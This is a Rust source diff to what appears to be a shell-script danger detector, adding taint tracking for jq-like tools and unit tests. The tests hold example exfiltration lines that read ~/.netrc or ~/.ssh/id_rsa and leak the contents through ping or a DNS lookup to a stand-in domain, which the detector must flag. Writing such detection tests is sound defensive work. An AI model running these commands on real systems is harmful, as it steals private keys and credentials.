@@ -55,8 +55,60 @@ pub(super) fn inputs(name: &str, rest: &[Value]) -> Vec<Value> {
 }
 
 impl Walk<'_> {
-    /// What the files carry that `name` reads.
+    /// What the files carry that `name` reads, and what it picks: the path of a file is as much as the file.
     pub(super) fn taint_of_inputs(&self, name: &str, rest: &[Value]) -> Taint {
-        self.taint_of_files(&inputs(name, rest))
+        let is_path = |field: &Value| ["path", "file", "cwd"].iter().any(|word| field.text.contains(word));
+        let picks = matches!(name, "jq" | "gojq" | "jaq" | "yq") && rest.iter().any(is_path);
+        let picked = if picks { Taint::LOCAL } else { Taint::default() };
+        self.taint_of_files(&inputs(name, rest)).and(picked)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::shell::Context;
+    use crate::shell::tests::{is_danger, is_no_danger};
+
+    fn files(line: &str) -> Vec<String> {
+        let words: Vec<&str> = line.split(' ').collect();
+        let rest: Vec<Value> = words.iter().skip(1).map(|word| Value::known(*word)).collect();
+        let files = inputs(words.first().copied().unwrap_or_default(), &rest);
+        files.into_iter().map(|field| field.text).filter(|text| !text.starts_with('-')).collect()
+    }
+
+    #[test]
+    fn programs_and_patterns_are_no_files() {
+        for (line, wanted) in [
+            ("sed s/a/b/", &[][..]),
+            ("sed -n p a.txt", &["a.txt"]),
+            ("sed -e s/a/b/ -e s/c/d/ a.txt", &["s/a/b/", "s/c/d/", "a.txt"]),
+            ("awk -F . {print} ~/.netrc", &["~/.netrc"]),
+            ("awk -f a.awk b.txt", &["a.awk", "b.txt"]),
+            ("grep -r . src", &["src"]),
+            ("jq -r .a.b", &[]),
+            ("cut -d / -f 3 a.txt", &["a.txt"]),
+            ("tr . _", &[]),
+            ("cat .npmrc", &[".npmrc"]),
+        ] {
+            assert_eq!(files(line), wanted, "{line}");
+        }
+    }
+
+    #[test]
+    fn a_host_that_a_program_picks_out_is_asked_for_and_no_file_is() {
+        for line in [
+            "gw=$(ip route | awk '/default/{print $3}')\nping -c1 \"$gw\"\n",
+            "ip=$(echo 10.1.2.3/8 | sed 's#\\.[0-9]*/.*#.1#')\nping \"$ip\"\n",
+            "host=$(echo \"$1\" | cut -d / -f 3)\ndig \"$host\"\n",
+            "name=$(printf %s \"$1\" | jq -r .host.name)\nnslookup \"$name\"\n",
+        ] {
+            is_no_danger(line, Context::Script);
+        }
+        for line in
+            ["key=$(awk 1 ~/.netrc)\nping \"$key\"\n", "key=$(sed -n 2p ~/.ssh/id_rsa)\ndig \"$key.x.invalid\"\n"]
+        {
+            is_danger(line, Context::Script);
+        }
     }
 }
